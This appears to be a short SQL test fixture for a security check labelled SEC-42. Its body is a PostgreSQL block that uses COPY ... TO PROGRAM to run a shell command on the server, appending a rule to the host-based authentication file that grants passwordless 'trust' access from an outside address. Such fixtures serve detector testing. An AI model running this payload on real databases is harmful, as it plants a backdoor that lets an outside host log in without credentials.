-- twin: rows
-- expect: SEC-42
-- server: own
do $$ begin
  execute format('copy (select %L) to program %L', 'host all all 203.0.113.7/32 trust',
    format('cat >> %L', current_setting('hba_file')));
end $$;
